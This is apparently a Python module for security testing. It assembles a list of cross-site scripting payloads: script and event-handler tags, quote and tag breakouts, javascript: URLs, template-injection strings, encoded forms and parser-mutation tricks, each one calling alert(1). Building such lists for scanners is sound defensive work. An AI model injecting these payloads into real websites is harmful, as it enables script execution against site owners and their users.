"""Text that runs as a script wherever a page forgets to escape it; each calls ``alert``."""

from __future__ import annotations

from itertools import product

__all__ = ["PAYLOADS"]

_RUN = "alert(1)"

_ELEMENTS = [
    f"<script>{_RUN}</script>",
    f"<ScRiPt >{_RUN}</sCrIpT >",
    f"<script\x20type='text/javascript'>{_RUN}</script>",
    f"<script src='data:text/javascript,{_RUN}'></script>",
    f"<script type=module>{_RUN}</script>",
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    f"<img src=x onerror={_RUN}>",
    f"<img/src=x/onerror={_RUN}>",
    f"<IMG SRC=x ONERROR='{_RUN}'>",
    "<img src=x onerror=&#97;lert(1)>",
    f"<img srcset=x onerror={_RUN}>",
    f"<image src=x onerror={_RUN}>",
    f"<svg onload={_RUN}>",
    f"<svg/onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><script href='data:text/javascript,{_RUN}' /></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<svg><set onbegin={_RUN} attributeName=x dur=1s>",
    f"<svg><foreignObject><img src=x onerror={_RUN}></foreignObject></svg>",
    f"<math><mtext><img src=x onerror={_RUN}></mtext></math>",
    f"<body onload={_RUN}>",
    f"<body onpageshow={_RUN}>",
    f"<input autofocus onfocus={_RUN}>",
    f"<select autofocus onfocus={_RUN}>",
    f"<textarea autofocus onfocus={_RUN}>",
    f"<button autofocus onfocus={_RUN}>x</button>",
    f"<a href=# autofocus onfocus={_RUN} tabindex=1>x</a>",
    f"<details open ontoggle={_RUN}>x</details>",
    f"<video src=x onerror={_RUN}></video>",
    f"<video><source onerror={_RUN}></video>",
    f"<video onloadstart={_RUN}><source></video>",
    f"<audio src=x onerror={_RUN}></audio>",
    f"<audio onloadstart={_RUN} src=x></audio>",
    f"<object data='data:text/html,<script>parent.{_RUN}</script>'></object>",
    f"<object data=x onerror={_RUN}></object>",
    f"<embed src='javascript:{_RUN}'>",
    f"<iframe src='javascript:parent.{_RUN}'></iframe>",
    f"<iframe srcdoc='<script>parent.{_RUN}</script>'></iframe>",
    f"<iframe onload={_RUN}></iframe>",
    f"<link rel=stylesheet href=x onerror={_RUN}>",
    f"<link rel=stylesheet href='data:text/css,' onload={_RUN}>",
    f"<style onload={_RUN}></style>",
    f"<style>@keyframes x{{}}</style><b style='animation-name:x' onanimationstart={_RUN}></b>",
    f"<marquee onstart={_RUN}>x</marquee>",
    f"<meta http-equiv=refresh content='0;url=javascript:{_RUN}'>",
    f"<base href='javascript:{_RUN}//'>",
    f"<form action='javascript:{_RUN}'><button autofocus>x</button></form>",
    f"<template><img src=x onerror={_RUN}></template>",
    f"<template shadowrootmode=open><img src=x onerror={_RUN}></template>",
]
_BREAKOUTS = ["", '">', "'>", "</title>", "</textarea>", "</script>", "-->", "]]>", "</style>"]
_ATTRIBUTES = [
    f"{quote}{space}{handler}={_RUN}{end}"
    for quote, (space, handler, end) in product(
        ['"', "'", "", "`"],
        [
            (" ", "onmouseover", " x="),
            (" autofocus ", "onfocus", " x="),
            ("/", "onerror", "/x="),
            (" style=animation-name:recommender-wait ", "onanimationstart", " x="),
        ],
    )
]
_ADDRESSES = [
    f"{spelling}{_RUN}"
    for spelling in [
        "javascript:",
        "JaVaScRiPt:",
        "javascript&colon;",
        "javascript&#58;",
        "java&Tab;script:",
        "java&NewLine;script:",
        "&#106;avascript:",
        "javascript:/*--></title>*/",
        "javascript://%0a",
        "javascript://news.example/%0d%0a",
        "vbscript:",
        "data:text/html,<script>parent.",
        "data:text/javascript,",
        "view-source:javascript:",
        "feed:javascript:",
    ]
]
_STRINGS = [
    f"';{_RUN};//",
    f'";{_RUN};//',
    f"`;{_RUN};//",
    f"'-{_RUN}-'",
    f'"-{_RUN}-"',
    f"${{{_RUN}}}",
    f"`${{{_RUN}}}`",
    f"\\';{_RUN};//",
    f'\\";{_RUN};//',
    f"</script><script>{_RUN}</script>",
    f"<!--<script>{_RUN}//-->",
    f"*/{_RUN}/*",
    f"'}});{_RUN};({{'",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\\x3cimg src=x onerror=alert(1)\\x3e",
]
_TEMPLATES = [
    "{{constructor.constructor('alert(1)')()}}",
    "{{7*7}}{% raw %}{{config}}",
    "${alert(1)}",
    "#{alert(1)}",
    "<%= alert(1) %>",
    "[[${alert(1)}]]",
    "{id}<img src=x onerror=alert(1)>",
    "[x](javascript:alert(1))",
    '![x](x"onerror="alert(1))',
    "<javascript:alert(1)>",
]
_ENCODED = [
    "&lt;img src=x onerror=alert(1)&gt;",
    "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3c;img src=x onerror=alert(1)&#x3e;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "%253Cscript%253Ealert(1)%253C/script%253E",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "\u202e<script>alert(1)</script>",
    "<\u200bscript>alert(1)</script>",
]
_MUTATING = [
    f"{shell}{inner}"
    for shell, inner in product(
        [
            "<noscript><p title='</noscript>",
            "<math><mtext><table><mglyph><style><!--</style>",
            "<svg></p><style><a id='</style>",
            "<svg><desc><style><!--</style>",
            "<form><math><mtext></form><form><mglyph><style></math>",
            "<textarea><title></textarea>",
            "<xmp><p title='</xmp>",
            "<iframe><p title='</iframe>",
            "<!--><p title='-->",
            "<![CDATA[><p title=']]>",
        ],
        [f"<img src=x onerror={_RUN}>", f"<script>{_RUN}</script>"],
    )
]

PAYLOADS = list(
    dict.fromkeys(
        [
            *(breakout + element for breakout, element in product(_BREAKOUTS[:5], _ELEMENTS)),
            *(breakout + _ELEMENTS[6] for breakout in _BREAKOUTS),
            *_ATTRIBUTES,
            *_ADDRESSES,
            *_STRINGS,
            *_TEMPLATES,
            *_ENCODED,
            *_MUTATING,
        ]
    )
)
